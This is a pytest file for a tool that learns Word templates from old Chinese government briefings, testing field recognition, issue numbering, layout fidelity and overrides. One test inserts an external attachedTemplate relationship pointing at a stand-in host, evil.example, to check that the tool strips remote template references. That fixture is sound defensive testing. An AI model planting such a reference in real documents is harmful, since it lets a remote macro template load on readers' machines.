"""Templates learnt from old briefings: what is recognised, what is left, and that they print what they were made from."""

from __future__ import annotations

import io

import docx
import pytest

from model.briefing import Briefing, BriefingSection, Item, SourceInfo, SourceRef
from model.document import Span
from model.errors import SourceError, UsageError
from tests.word.old_briefings import SAMPLES, TEXTS, Writer, by_hand, red_head, table_head, text_box
from tests.word.word_samples import full, lines
from word.catalogue import find, from_bytes
from word.check import opened
from word.inspection import Inspection
from word.learning import Learnt, learn
from word.ooxml import read_package, w
from word.properties import number
from word.render import RenderOptions, render

OPTIONS = RenderOptions(for_other_computers=True, include_sources=False)

# What each sample was written with, and the sections of its body.
VALUES: dict[str, dict[str, str]] = {
    "by hand": {
        "密级": "内部资料  注意保存", "简报名称": "振兴工作简报", "期号": "32", "总期号": "108",
        "编发单位": "市政府办公室", "编发日期": "2023年12月8日", "标题": "全市经济运行情况", "供稿": "市统计局",
        "报": "市委、市政府领导", "送": "市直各部门，市人大常委会办公室", "发": "各县（市、区）人民政府", "份数": "120",
    },
    "red head": {
        "密级": "秘密★1年", "编号": "000126", "简报名称": "督 查 专 报", "期号": "8", "总期号": "215",
        "编发单位": "省委督查室", "编发日期": "2024年3月15日", "要目": "一、工业生产平稳增长\n二、投资消费持续恢复",
        "编者按": "现将督查情况予以刊发，请结合实际抓好落实。", "标题": "关于重点任务落实情况的督查报告",
        "副标题": "来自一线的报告", "报": "省委常委，省政府领导同志", "送": "各市州委，省直各部门",
        "印发单位": "省委督查室", "印发日期": "2024年3月15日", "份数": "80",
    },
    "table head": {
        "简报名称": "政务信息快报", "期号": "15", "总期号": "315", "编发单位": "区人民政府办公室",
        "编发日期": "2024年5月6日", "标题": "区域协调发展情况专题信息", "主送": "区委、区政府",
        "署名": "区人民政府办公室", "成文日期": "2024年5月6日", "附件": "1.重点项目进展情况表",
        "送": "区人大常委会办公室、区政协办公室",
    },
    "text box": {
        "简报名称": "改革动态", "总期号": "66", "编发单位": "市委改革办", "编发日期": "2024年6月18日",
        "标题": "深化重点领域改革情况",
    },
    "Word's styles": {
        "简报名称": "信息参考", "期号": "7", "编发单位": "集团公司办公室", "编发日期": "2024年7月1日",
        "标题": "上半年生产经营情况", "报": "集团公司领导", "发": "各部门、各子公司",
    },
}  # fmt: skip


def briefing(name: str) -> Briefing:
    items = [
        Item(f"i{n}", text, (SourceRef("0" * 64, Span(n, 0, len(text)), text),))
        for n, text in enumerate(TEXTS)
    ]
    sections = (
        BriefingSection("1", "工业生产平稳增长", 1, tuple(items[:2])),
        BriefingSection("2", "投资消费持续恢复", 1, tuple(items[2:])),
    )
    return Briefing(tuple(VALUES[name].items()), sections, sources=(SourceInfo("0" * 64, "甲"),))


@pytest.fixture(scope="module", params=list(SAMPLES))
def sample(request: pytest.FixtureRequest) -> tuple[str, bytes, Learnt]:
    data = SAMPLES[request.param]()
    return request.param, data, learn(data, "样本.docx")


def test_every_field_of_the_sample_is_found(sample: tuple[str, bytes, Learnt]) -> None:
    name, _, learnt = sample
    assert set(learnt.slots) == {*VALUES[name], "正文"}
    assert learnt.findings == ()
    assert from_bytes(learnt.data, "学").slots == learnt.slots


def look(file: Inspection, text: str) -> tuple[object, ...]:
    """How a line is set: face, size, colour, alignment, indent, line, border."""
    paragraph = next(p for p in file.paragraphs if p.text.strip() == text)
    run = next(run for run in paragraph.runs if run.text.strip())
    return (
        run.props.get("rFonts.eastAsia"),
        number(run.props.get("sz")),
        run.props.get("color"),
        paragraph.props.get("jc", "left"),
        paragraph.get("ind.firstLine"),
        paragraph.get("spacing.line"),
        paragraph.props.get("pBdr.bottom.color"),
    )


def test_a_briefing_printed_with_it_looks_like_the_sample(
    sample: tuple[str, bytes, Learnt],
) -> None:
    name, data, learnt = sample
    made = render(briefing(name), from_bytes(learnt.data, "学"), OPTIONS)
    before, after = opened(data, "样"), opened(made, "印")
    wanted = [p.text.strip() for p in before.paragraphs if p.text.strip()]
    printed = {p.text.strip() for p in after.paragraphs}
    same = [text for text in wanted if text in printed]
    # Numbers, dates and the gaps between left and right are set as the program sets them.
    assert len(same) >= 0.6 * len(wanted)
    assert {VALUES[name]["标题"], TEXTS[0]} <= set(same)
    if name != "Word's styles":
        assert {"一、工业生产平稳增长", TEXTS[3]} <= set(same)
    for text in same:
        assert look(after, text) == look(before, text), text
    assert not [text for text in printed if "【" in text]


def parts(learnt: Learnt) -> dict[str, str]:
    return {part.text: part.written for part in learnt.parts}


def test_numbers_in_any_form() -> None:
    cases = {
        "第3期": "第【期号】期",
        "第 3 期": "第 【期号】 期",
        "第三期": "第【期号】期",
        "（第12期）": "（第【期号】期）",
        "第3期（总第15期）": "第【期号】期（总第【总期号】期）",
        "第3期 总第15期": "第【期号】期 总第【总期号】期",
        "总第128期": "总第【总期号】期",
        "（总第一百二十八期）": "（总第【总期号】期）",
        "2024年第8期": "2024年第【期号】期",
        "〔2024〕第8期": "〔2024〕第【期号】期",
        "［2024］8号": "［2024］【期号】号",
    }
    for text, want in cases.items():
        writer = Writer()
        writer.line("工作简报", "方正小标宋简体", 48, align=1, red=True)
        writer.line(text, align=1)
        writer.line("市政府办公室\t2023年12月8日", rule=True)
        writer.line("全市经济运行情况", "方正小标宋简体", 22, align=1)
        writer.body()
        assert parts(learn(writer.data(), "样.docx"))[text] == want


def test_left_and_right_are_parted_by_a_tab_at_the_edge() -> None:
    learnt = learn(by_hand(), "样.docx")
    root = read_package(learnt.data).xml("word/document.xml")
    stops = [tab.get(w("pos")) for tab in root.iter(w("tab")) if tab.get(w("val")) == "right"]
    assert [round(int(stop) * 25.4 / 1440, 1) for stop in stops] == [210 - 28 - 26]
    assert "【编发单位】编\t【编发日期】" in parts(learnt).values()


def test_a_text_box_is_filled_for_old_programs_too() -> None:
    learnt = learn(text_box(), "样.docx")
    made = render(briefing("text box"), from_bytes(learnt.data, "学"), OPTIONS)
    assert read_package(learnt.data).parts["word/document.xml"].decode().count("【简报名称】") == 2
    assert read_package(made).parts["word/document.xml"].decode().count("改革动态") == 2


def test_what_is_not_recognised_is_listed_and_kept() -> None:
    learnt = learn(text_box(), "样.docx")
    left = [part.text for part in learnt.parts if part.kind == "left"]
    assert left == ["责任编辑：张三\u3000\u3000电话：12345678"]
    assert left[0] in lines(learnt.data)


def test_a_person_knows_better() -> None:
    learnt = learn(by_hand(), "样.docx")
    number_of = {part.text: part.paragraph for part in learnt.parts}
    changed = learn(
        by_hand(),
        "样.docx",
        {
            number_of["全市经济运行情况"]: "文件名",
            number_of["（市统计局供稿）"]: "",
            number_of["（共印120份）"]: "删去",
            number_of["送：市直各部门，市人大常委会办公室。"]: "本期增发",
        },
    )
    assert "文件名" in changed.slots
    assert {"标题", "供稿", "份数"} & set(changed.slots) == set()
    texts = lines(changed.data)
    assert "【文件名】" in texts
    assert "（市统计局供稿）" in texts
    assert "【本期增发】" in texts
    assert not [text for text in texts if "共印" in text]


def test_an_override_that_cannot_be_is_refused() -> None:
    for overrides, code in (
        ({1: "天气"}, "error.usage.override_field"),
        ({999: "标题"}, "error.usage.override_paragraph"),
    ):
        with pytest.raises(UsageError) as caught:
            learn(by_hand(), "样.docx", overrides)
        assert caught.value.code == code


def test_a_run_in_head_shows_how_headlines_are_set() -> None:
    writer = Writer()
    writer.line("工作简报", "方正小标宋简体", 48, align=1, red=True)
    writer.line("第3期", align=1)
    writer.line("市政府办公室\t2023年12月8日", rule=True)
    writer.line("全市经济运行情况", "方正小标宋简体", 22, align=1)
    paragraph = writer.line("工业稳步回升。", "黑体", indent=True)
    from tests.word.old_briefings import _set

    _set(paragraph.add_run(TEXTS[0]), "仿宋", 16)
    learnt = learn(writer.data(), "样.docx")
    assert learnt.findings == ()
    root = read_package(learnt.data).xml("word/document.xml")
    line = next(t for t in root.iter(w("t")) if t.text == "【样：条目标题】")
    assert line.getparent().find(f"{w('rPr')}/{w('rFonts')}").get(w("eastAsia")) == "黑体"
    body = next(t for t in root.iter(w("t")) if t.text == "【样：正文】")
    assert body.getparent().find(f"{w('rPr')}/{w('rFonts')}").get(w("eastAsia")) == "仿宋"


def test_our_own_export_gives_its_template_back() -> None:
    data = render(full(), find("简报"), RenderOptions(for_other_computers=True))
    learnt = learn(data, "样.docx")
    assert learnt.findings == ()
    wanted = {name for name, _ in full().fields} | {"正文", "来源索引"}
    assert wanted <= {*learnt.slots, "编者按"}
    again = render(full(), from_bytes(learnt.data, "学"), RenderOptions(for_other_computers=True))
    missing = [line for line in lines(data) if line.strip() and line not in lines(again)]
    assert missing == []


def test_headings_with_automatic_numbers_are_not_numbered_twice() -> None:
    document = docx.Document(io.BytesIO(red_head()))
    for paragraph in document.paragraphs:
        if paragraph.text.startswith(("一、", "二、")):
            paragraph.runs[0].text = paragraph.text[2:]
            paragraph.style = document.styles["List Number"]
            paragraph.paragraph_format.first_line_indent = None
    stream = io.BytesIO()
    document.save(stream)
    learnt = learn(stream.getvalue(), "样.docx", {11: "一级标题"})
    root = read_package(learnt.data).xml("word/document.xml")
    line = next(t for t in root.iter(w("t")) if t.text == "【样：一级标题】")
    paragraph = next(line.iterancestors(w("p")))
    numbered = paragraph.find(f"{w('pPr')}/{w('numPr')}/{w('numId')}")
    assert numbered is not None
    assert numbered.get(w("val")) == "0"


def test_nothing_that_could_run_is_learnt() -> None:
    parts_of = dict(read_package(table_head()).parts)
    rels = parts_of["word/_rels/document.xml.rels"].decode()
    added = (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    parts_of["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", added).encode()
    from tools.roundtrip import packed

    learnt = learn(packed(parts_of), "样.docx")
    assert learnt.findings == ()
    assert b"evil" not in b"".join(read_package(learnt.data).parts.values())


def test_a_file_that_is_no_briefing_is_told() -> None:
    with pytest.raises(SourceError):
        learn(b"nothing", "样.docx")
    stream = io.BytesIO()
    docx.Document().save(stream)
    empty = learn(stream.getvalue(), "空.docx")
    assert [finding.code for finding in empty.findings] == ["error.template.no_body"]
